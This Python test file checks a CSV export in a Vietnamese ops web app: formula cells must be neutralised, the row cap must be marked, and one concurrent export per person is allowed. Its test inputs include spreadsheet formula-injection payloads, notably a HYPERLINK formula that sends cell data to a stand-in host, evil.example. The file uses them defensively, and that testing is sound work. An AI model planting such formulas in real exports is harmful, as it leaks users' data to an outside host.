"""The CSV download: no cell from the feed may become a live spreadsheet formula; the
export is cut at the row cap with a last line saying so; one export at a time per person
(a second one at once is answered 429 in Vietnamese), and a download that ends early,
however it ends, frees the person's turn."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import anyio
import pytest

from tests.web_app import COOKIE, Web, login, open_web
from worker.db.engine import Database
from worker.db.models import Handoff
from worker.web.ops_csv import BUSY_VI, csv_bytes, safe_cell

NOW = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)
CUT = "Tệp đã bị cắt"


def _cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel needs the byte-order mark for Vietnamese
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=***", "+84 912 345 678",
    "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
])
def test_formula_starts_are_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert _cells(csv_bytes([["x", value]])) == [["x", "'" + value]]


@pytest.mark.parametrize("value", [
    "Nguyễn Thị Hồng", "000.00.17.H19-201126-0001", "09****678", "", "a=b", "Số 12, ấp Tân Lộc",
    " =1", "—",
])
def test_ordinary_cells_are_untouched(value: str) -> None:
    assert safe_cell(value) == value
    assert _cells(csv_bytes([[value]])) == [[value]]


def test_none_is_an_empty_cell() -> None:
    assert safe_cell(None) == ""


def test_masked_name_keeps_no_formula() -> None:
    # masking keeps the first character: "=HYPERLINK(...)" masked is still "=***"
    from worker.domain.privacy import mask_name

    masked = mask_name('=HYPERLINK("http://evil.example","x")')
    assert _cells(csv_bytes([[masked]]))[0][0].startswith("'")


def _seed(db: Database, first: int, last: int, **kw: object) -> None:
    """Hand-offs first..last, the lower the number the newer."""
    with db.unit_of_work() as s:
        s.add_all(Handoff(dossier_code=f"000.00.17.H19-201126-{i:04d}",
                          direction="result_delivery", source_item_id=f"item-{i}",
                          agency_code="000.00.17.H19", citizen_name="Nguyễn Thị Hồng",
                          citizen_phone="0912345678", status="accepted",
                          ready_at=NOW - timedelta(minutes=i), **kw)
                  for i in range(first, last + 1))


@pytest.fixture
def capped(sqlite_db: Database, tmp_path: Path) -> Iterator[Web]:
    with open_web(sqlite_db, tmp_path, csv_max_rows=3) as web:
        assert login(web.client, "ops").status_code == 303
        yield web


@pytest.mark.flows  # through the real app on a database
def test_the_download_quotes_formulas_and_is_never_cached(capped: Web) -> None:
    _seed(capped.db, 1, 1, agency_name='=HYPERLINK("http://evil.example","Bấm")')
    r = capped.client.get("/ops/handoffs.csv")
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    assert r.headers["cache-control"] == "no-store"
    assert r.headers["content-disposition"].startswith('attachment; filename="chuyen-phat-')
    header, line = _cells(r.content)
    assert header[0] == "Mã hồ sơ" and line[3] == '\'=HYPERLINK("http://evil.example","Bấm")'


@pytest.mark.flows  # through the real app on a database
def test_an_export_past_the_row_cap_ends_with_a_line_saying_so(capped: Web) -> None:
    _seed(capped.db, 1, 3)
    rows = _cells(capped.client.get("/ops/handoffs.csv").content)
    assert [r[0][-4:] for r in rows[1:]] == ["0001", "0002", "0003"]  # exactly the cap: whole
    _seed(capped.db, 4, 5)
    rows = _cells(capped.client.get("/ops/handoffs.csv").content)
    assert [r[0][-4:] for r in rows[1:4]] == ["0001", "0002", "0003"]  # newest first
    assert len(rows) == 5 and CUT in rows[4][0] and "3 hồ sơ đầu tiên" in rows[4][0]


# --- one export at a time per person, driven at the ASGI door of the real app -------------

class Download:
    """One GET of the export sent to the real app by hand: it stops after the first body
    chunk until `go_on` is set (the browser reading slowly), or ends when `leave` is set
    (the browser gone)."""

    def __init__(self, web: Web, cookie: str, *, hold: bool = False) -> None:
        self.app = web.client.app
        self.cookie = cookie
        self.messages: list[dict] = []
        self.first_chunk, self.go_on, self.leave = anyio.Event(), anyio.Event(), anyio.Event()
        if not hold:
            self.go_on.set()
        self._asked = False

    async def receive(self) -> dict:
        if not self._asked:
            self._asked = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await self.leave.wait()
        return {"type": "http.disconnect"}

    async def send(self, message: dict) -> None:
        self.messages.append(message)
        if message["type"] == "http.response.body" and message.get("body"):
            self.first_chunk.set()
            await self.go_on.wait()

    async def run(self) -> None:
        scope = {"type": "http", "asgi": {"version": "3.0", "spec_version": "2.3"},
                 "http_version": "1.1", "method": "GET", "scheme": "https",
                 "path": "/ops/handoffs.csv", "raw_path": b"/ops/handoffs.csv",
                 "query_string": b"", "root_path": "", "client": ("127.0.0.1", 50000),
                 "server": ("testserver", 443),
                 "headers": [(b"host", b"testserver"),
                             (b"cookie", f"{COOKIE}={self.cookie}".encode())]}
        with anyio.fail_after(20):
            await self.app(scope, self.receive, self.send)

    @property
    def status(self) -> int:
        return next(m["status"] for m in self.messages if m["type"] == "http.response.start")

    @property
    def headers(self) -> dict[str, str]:
        start = next(m for m in self.messages if m["type"] == "http.response.start")
        return {k.decode(): v.decode() for k, v in start["headers"]}

    @property
    def body(self) -> bytes:
        return b"".join(m.get("body", b"") for m in self.messages
                        if m["type"] == "http.response.body")


def _cookie(web: Web, username: str) -> str:
    """A session of its own (another browser) for `username`."""
    with web.browser() as browser:
        assert login(browser, username).status_code == 303
        return str(browser.cookies[COOKIE])


@pytest.mark.flows  # through the real app on a database
def test_a_second_export_by_the_same_person_at_once_is_refused_in_vietnamese(
        capped: Web) -> None:
    _seed(capped.db, 1, 3)
    ops_here, ops_there, desk = (_cookie(capped, "ops"), _cookie(capped, "ops"),
                                 _cookie(capped, "desk"))

    async def scenario() -> tuple[Download, ...]:
        first = Download(capped, ops_here, hold=True)
        again, elsewhere, other = (Download(capped, ops_here), Download(capped, ops_there),
                                   Download(capped, desk))
        async with anyio.create_task_group() as tg:
            tg.start_soon(first.run)
            await first.first_chunk.wait()  # the first export is on its way
            await again.run()
            await elsewhere.run()  # the same person in another browser
            await other.run()  # another person
            first.go_on.set()
        after = Download(capped, ops_here)
        await after.run()
        return first, again, elsewhere, other, after

    first, again, elsewhere, other, after = anyio.run(scenario)
    for refused in (again, elsewhere):
        assert refused.status == 429
        assert BUSY_VI in refused.body.decode() and refused.headers["retry-after"] == "10"
    for whole in (first, other, after):
        assert whole.status == 200
        assert len(_cells(whole.body)) == 4  # the header and the three hand-offs


@pytest.mark.flows  # through the real app on a database
def test_a_download_the_browser_leaves_midway_frees_the_turn(capped: Web) -> None:
    _seed(capped.db, 1, 3)
    ops = _cookie(capped, "ops")

    async def scenario() -> Download:
        first = Download(capped, ops, hold=True)
        async with anyio.create_task_group() as tg:
            tg.start_soon(first.run)
            await first.first_chunk.wait()
            first.leave.set()  # the browser goes away mid-download
        after = Download(capped, ops)
        await after.run()
        return after

    after = anyio.run(scenario)
    assert after.status == 200 and len(_cells(after.body)) == 4
